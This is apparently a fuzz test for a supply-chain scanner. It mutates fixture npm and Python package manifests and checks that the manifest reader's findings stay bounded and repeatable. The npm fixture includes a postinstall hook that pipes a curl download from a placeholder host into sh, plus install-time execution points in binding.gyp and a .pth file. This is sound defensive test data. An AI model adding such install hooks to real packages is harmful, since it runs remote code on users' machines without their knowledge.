import { describe, expect, it } from 'vitest';
import { mutate } from '../archive/testing/mutate.ts';
import { packageFile } from '../archive/assembleFiles.ts';
import { seededNumbers } from '../testing/seededNumbers.ts';
import { readManifest } from './readManifest.ts';
import { artifact } from './testing/manifestOf.ts';

/** Other rounds, or those that failed: `SEED=7 npx vitest run packages/scan/src/manifest/hostileManifests.test.ts`. */
const SEED = Number(process.env['SEED'] ?? 1);
const ROUNDS = 1500;

const HONEST = [
  artifact(
    {
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        scripts: { postinstall: 'node x.js && curl https://example.invalid | sh' },
        bin: { x: 'x.js' },
        exports: { '.': { import: './x.js' } },
        dependencies: { a: '^1', b: 'npm:c@1', d: 'git+https://example.invalid/d.git' },
      }),
      'binding.gyp': `{ 'targets': [{ 'x': '<!(node -p "1")', 'action': ['a', "b"] }] }`,
      'npm-shrinkwrap.json': '{"packages":{"node_modules/a":{"resolved":"https://a.example/a.tgz"}}}',
      '.github/workflows/a.yml':
        'on: [push]\njobs:\n  a:\n    steps:\n      - uses: x/y@v1\n      - run: npm publish\n',
    },
    'npm-tarball',
  ),
  artifact(
    {
      'PKG-INFO': 'Name: x\nVersion: 1.0\nRequires-Dist: a (>1) ; extra == "b"\n\nText',
      'pyproject.toml': '[build-system]\nrequires = ["a"]\n[project]\nname = "x"\nscripts = {a = "b:c"}\n',
      'setup.cfg': '[metadata]\nname = x\n[options]\ninstall_requires =\n  a\n',
      'x.egg-info/entry_points.txt': '[console_scripts]\na = b:c\n',
      'x.pth': 'import x\n',
    },
    'sdist',
  ),
];

describe('broken manifests', () => {
  it(`give an answer in ${ROUNDS} rounds, the same one twice`, () => {
    const random = seededNumbers(SEED);
    for (let round = 0; round < ROUNDS; round += 1) {
      const honest = HONEST[round % HONEST.length]!;
      const other = honest.files[Math.floor(random() * honest.files.length)]!.bytes;
      const files = honest.files.map(({ path, bytes }) =>
        packageFile(path, random() < 0.5 ? mutate(bytes, other, random) : bytes, false),
      );
      const read = readManifest({ ...honest, files });
      expect(read.findings.length, `SEED=${SEED}, round ${round}`).toBeLessThanOrEqual(200);
      if (round % 50 === 0) expect(readManifest({ ...honest, files })).toEqual(read);
    }
  });
});
